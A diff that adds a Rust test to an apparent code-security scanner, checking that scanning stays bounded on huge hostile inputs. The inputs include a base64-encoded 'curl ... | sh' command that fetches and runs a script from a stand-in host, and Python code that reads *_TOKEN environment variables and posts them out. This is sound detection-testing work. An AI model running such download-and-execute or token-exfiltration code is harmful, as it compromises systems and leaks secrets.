@@ -392,3 +392,18 @@ fn only_command_words_that_can_be_disguised_pass_the_gate() {
     assert!(!may("curl -s -H \"Authorization: Bearer $T\" http://localhost:8080/v1 | jq '.items | length'"));
     assert!(!may("docker compose up -d postgres"));
 }
+
+#[test]
+fn hostile_bodies_stay_bounded() {
+    // Many literals on one line: at most a budget of them is scanned again.
+    let line =
+        format!("echo {} | base64 -d", "Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9wLnNoIHwgc2g= ".repeat(5_000));
+    let report = crate::scan::Scanner::standard().scan(&block("bash", &line));
+    let decoded = report.findings.iter().filter(|f| f.rule_id == "code.decoded-payload").count();
+    assert!((1..=32).contains(&decoded), "{decoded}");
+    // A huge line of code with many tainted names.
+    let names: String = (0..64).map(|i| format!("t{i} = os.environ[\"A{i}_TOKEN\"]\n")).collect();
+    let call = format!("requests.post(u, data=[{}])", "t1, ".repeat(20_000));
+    let report = crate::scan::Scanner::standard().scan(&block("python", &format!("{names}{call}")));
+    assert!(report.findings.iter().any(|f| f.rule_id == NET && f.severity == Critical));
+}
